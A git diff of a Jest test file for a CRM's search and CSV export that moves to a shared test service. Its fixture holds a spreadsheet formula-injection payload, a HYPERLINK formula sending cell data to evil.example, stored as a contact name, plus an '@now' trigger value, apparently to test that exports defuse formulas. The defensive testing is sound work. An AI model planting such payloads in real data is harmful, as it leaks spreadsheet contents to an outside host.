@@ -1,6 +1,6 @@
 /** All that a search finds, as a stream: its formats, who may have it, what it leaves and what it holds. */
 
-import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
+import { beforeAll, describe, expect, test } from '@jest/globals';
 import { undefuse } from '../../src/csv/formula.ts';
 import { sendBatch } from '../kit/batch.ts';
 import { readCsv } from '../kit/csv.ts';
@@ -8,15 +8,13 @@ import { read } from '../kit/feed.ts';
 import type { Page, Stored } from '../kit/records.ts';
 import { invalidSearchOf, notFound, unauthorized } from '../kit/refusals.ts';
 import type { Headers } from '../kit/rest.ts';
-import { type Service, startService } from '../kit/service.ts';
-import { unique, type World, world } from '../kit/world.ts';
+import { sharedService } from '../kit/service.ts';
+import { unique, world } from '../kit/world.ts';
 
-let service: Service;
-let w: World;
+const service = await sharedService();
+const w = await world(service);
 const hostile = '=HYPERLINK("https://evil.example/?"&A1;"x")';
 beforeAll(async () => {
-  service = await startService();
-  w = await world(service);
   const { id } = await w.contact({
     full_name: hostile,
     phone: '+5511987654321',
@@ -31,7 +29,6 @@ beforeAll(async () => {
   const deal = await w.deal({ contact_id: id, name: 'x', lost_reason: '@now', status: 'lost' });
   await w.dealProduct({ deal_id: deal.id });
 });
-afterAll(() => service.close());
 
 const all = async (path: string, query: object = {}) => {
   const { text } = await w.rest.post<Page<Stored>>(`${path}/search`, { query, per_page: 100 });
